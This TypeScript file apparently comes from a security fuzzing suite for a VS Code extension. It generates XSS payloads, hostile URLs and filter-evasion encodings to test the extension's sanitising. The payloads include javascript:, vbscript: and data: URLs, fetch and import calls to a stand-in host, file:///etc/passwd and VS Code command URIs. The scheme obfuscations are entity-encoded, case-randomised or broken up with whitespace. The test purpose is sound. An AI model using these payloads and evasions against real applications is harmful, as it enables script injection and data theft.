// Scripts, URLs and encodings of payloads.
import type { Random } from "./random.ts";

/** A host that does not exist; requests to it are detected before DNS lookup. */
export const foreignHost = "elsewhere.example";

/** Function that payload scripts call, to detect that they run. */
export const alarmFunction = "hostileRan";

/** Prefix of icon names that the extension does not use. */
export const foreignIcon = "skull";

export function createScript(random: Random, number: number): string {
  return random.pick([
    `${alarmFunction}(${number})`,
    `window.${alarmFunction}(${number})`,
    `top["hostile"+"Ran"](${number})`,
    `self[atob("aG9zdGlsZVJhbg==")](${number})`,
    `alert(${number})`,
    `fetch("https://${foreignHost}/${number}")`,
    `import("https://${foreignHost}/${number}.js")`,
    `location="https://${foreignHost}/${number}"`,
    `open("https://${foreignHost}/${number}")`,
    `new Image().src="https://${foreignHost}/${number}.png"`,
    `acquireVsCodeApi().postMessage({kind:"call",id:${number},method:"openUrl",params:{address:"command:x"}})`,
  ]);
}

const entityEncoders: readonly ((character: string) => string)[] = [
  (character) => `&#${character.codePointAt(0)};`,
  (character) => `&#x${character.codePointAt(0)?.toString(16)};`,
  (character) => `&#0000${character.codePointAt(0)};`,
  (character) => `&#X${character.codePointAt(0)?.toString(16).toUpperCase()};`,
];

function encodeAsEntities(random: Random, text: string): string {
  const encode = random.pick(entityEncoders);
  return Array.from(text).map(encode).join("");
}

export function randomizeCase(random: Random, text: string): string {
  return Array.from(text)
    .map((letter) => (random.chance(0.5) ? letter.toUpperCase() : letter.toLowerCase()))
    .join("");
}

/** Lone surrogates can't be percent-encoded. */
function percentEncode(text: string): string {
  return encodeURIComponent(text.replaceAll(/\p{Surrogate}/gu, ""));
}

type Encoding = (random: Random, text: string) => string;

export const encodings: readonly Encoding[] = [
  (_, text) => text,
  (_, text) => text,
  encodeAsEntities,
  (_, text) => percentEncode(text),
  (_, text) => percentEncode(percentEncode(text)),
  (_, text) => text.replaceAll("<", "&lt;").replaceAll(">", "&gt;"),
  (_, text) => text.replaceAll("<", String.raw`\u003c`).replaceAll(">", String.raw`\u003e`),
  (_, text) => text.replaceAll("<", "\uff1c").replaceAll(">", "\uff1e"),
  (_, text) => Array.from(text).join("\0"),
  (_, text) => `+ADw-${text}+AD4-`,
];

const createForeignUrl = (number: number): string => `https://${foreignHost}/${number}`;

/** URLs that run scripts or commands, or lead to another host. */
export function createHostileUrl(random: Random, number: number): string {
  const code = createScript(random, number);
  const plain = random.pick<() => string>([
    () => `javascript:${code}`,
    () => `javascript://%0a${code}`,
    () => `vbscript:${code}`,
    () => `data:text/html,<script>${code}</script>`,
    () => `data:text/html;base64,${Buffer.from(`<script>${code}</script>`).toString("base64")}`,
    () => `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${code}"/>`,
    () => "command:workbench.action.quit",
    () => `command:artifacts.openInBrowser?${encodeURIComponent(`[{"page":"${createForeignUrl(number)}"}]`)}`,
    () => "vscode://file/etc/passwd",
    () => "vscode-insiders://artifacts/x",
    () => "file:///etc/passwd",
    () => `file://${foreignHost}/share/${number}`,
    () => `blob:${createForeignUrl(number)}`,
    () => `view-source:${createForeignUrl(number)}`,
    () => `ws://${foreignHost}/${number}`,
    () => `ftp://${foreignHost}/${number}`,
    () => createForeignUrl(number),
    () => `//${foreignHost}/${number}`,
    () => String.raw`\\${foreignHost}\${number}`,
    () => `/\\${foreignHost}/${number}`,
    () => `https:${foreignHost}/${number}`,
    () => `https://127.0.0.1@${foreignHost}/${number}`,
  ])();
  return disguiseScheme(random, plain);
}

/** Browsers skip some characters in front of and within a scheme. */
function disguiseScheme(random: Random, plain: string): string {
  const colon = plain.indexOf(":");
  if (colon < 0 || random.chance(0.4)) return plain;
  const [scheme, rest] = [plain.slice(0, colon), plain.slice(colon + 1)];
  const cut = 1 + random.integerBelow(Math.max(1, scheme.length - 1));
  const [head, tail] = [scheme.slice(0, cut), scheme.slice(cut)];
  return random.pick<() => string>([
    () => `${randomizeCase(random, scheme)}:${rest}`,
    () => `${random.pick([" ", "\t", "\n", "\u0001", "\u00a0", "\ufeff", "\u2028"])}${plain}`,
    () => `${head}${random.pick(["\n", "\t", "\r", "&#10;", "&Tab;", "&NewLine;"])}${tail}:${rest}`,
    () => `${scheme}${random.pick(["&colon;", "&#58;", "&#x3a", "%3a"])}${rest}`,
    () => `${encodeAsEntities(random, scheme)}:${rest}`,
    () => `${scheme} :${rest}`,
  ])();
}
